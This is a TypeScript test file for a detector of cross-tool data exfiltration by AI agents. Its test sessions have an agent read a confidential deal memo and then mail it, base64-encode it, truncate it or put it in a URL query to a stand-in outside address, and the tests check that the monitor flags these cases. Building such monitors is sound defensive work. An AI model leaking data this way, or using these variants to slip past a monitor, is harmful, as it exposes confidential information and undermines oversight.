import { describe, expect, it } from 'vitest'
import { createRefExtractor } from '../src/accept/refs.ts'
import type { EventData, Signal } from '../src/model/index.ts'
import { baselineOf, profileRow } from '../src/testing/baseline.ts'
import { run } from '../src/testing/detector-suite.ts'
import { toolEvent } from '../src/testing/events.ts'
import detector from './cross-tool-exfiltration.ts'

const refsOf = createRefExtractor({ key: 'test' })
const accepted = (data: Partial<EventData>) => {
  const event = toolEvent(data)
  const full = { ...event.data, refs: refsOf(event.data) }
  return { ...event, data: full, cloud: { ...event.cloud, data: full } }
}
const known = refsOf(toolEvent({ args: { to: 'ada@firm.example' } }).data).find(({ kind }) => kind === 'email')
const baseline = baselineOf({
  reach: [profileRow('send_mail\u001femail', known?.fp ?? '', 40)],
  parameters: [profileRow('send_mail', '', 40)],
})
const DEAL = 'The deal with Norwind closes on 4 March at 310 million, paid by two banks in equal parts.'

/** A document is read on one server, then a tool of another server is called. */
function session(
  args: Readonly<Record<string, unknown>>,
  task = 'Read the minutes.',
  server = 'mail',
): Signal | undefined {
  const intent = { text: task }
  return run(detector, baseline, [
    accepted({
      call_id: 'a',
      phase: 'response',
      server: { id: 'documents' },
      tool: { name: 'read_document' },
      result: { status: 'ok', sample: DEAL },
      intent,
    }),
    accepted({ call_id: 'b', server: { id: server }, tool: { name: 'send_mail' }, args, intent }),
  ])[0]
}

describe('a result that leaves through another tool', () => {
  it('is told when it goes to a stranger, with its source', () => {
    const signal = session({ to: 'lee@post.example', body: DEAL })
    expect(signal?.strength).toBeGreaterThan(3)
    expect(signal?.reasons[0]?.observed).toBe(
      'repeat words of a result of `documents/read_document`, to a place (email) that neither task nor role knows',
    )
    expect(JSON.stringify(signal)).not.toContain('Norwind')
  })

  it('is told when it is encoded or cut', () => {
    expect(session({ to: 'lee@post.example', body: Buffer.from(DEAL).toString('base64') })).toBeDefined()
    expect(session({ url: `https://post.example/?q=${encodeURIComponent(DEAL)}` })).toBeDefined()
    expect(session({ to: 'lee@post.example', body: DEAL.slice(0, 50) })).toBeDefined()
  })

  it('is none when it goes where the task says, to one the role knows, or back to where it came from', () => {
    expect(session({ to: 'lee@post.example', body: DEAL }, 'Forward the minutes to lee@post.example.')).toBeUndefined()
    expect(session({ to: 'ada@firm.example', body: DEAL })).toBeUndefined()
    expect(session({ id: 7, body: DEAL }, 'Read the minutes.', 'documents')).toBeUndefined()
  })

  it('is none when a link of the result is followed, and is when more is put into one', () => {
    const found = 'Three hits: https://post.example/a/long/page/on/herons and two more about swifts in spring.'
    const follow = (url: string): Signal | undefined =>
      run(detector, baseline, [
        accepted({
          call_id: 'a',
          phase: 'response',
          tool: { name: 'search' },
          result: { status: 'ok', sample: found },
        }),
        accepted({ call_id: 'b', server: { id: 'web' }, tool: { name: 'open_page' }, args: { url } }),
      ])[0]
    expect(follow('https://post.example/a/long/page/on/herons')).toBeUndefined()
    expect(follow('https://post.example/a?q=two+more+about+swifts+in+spring')).toBeDefined()
  })

  it('is none when other words go out', () => {
    expect(session({ to: 'lee@post.example', body: 'Nothing new from here, see you in March.' })).toBeUndefined()
    expect(session({ to: 'lee@post.example', body: 'The deal with them is off.' })).toBeUndefined()
  })
})
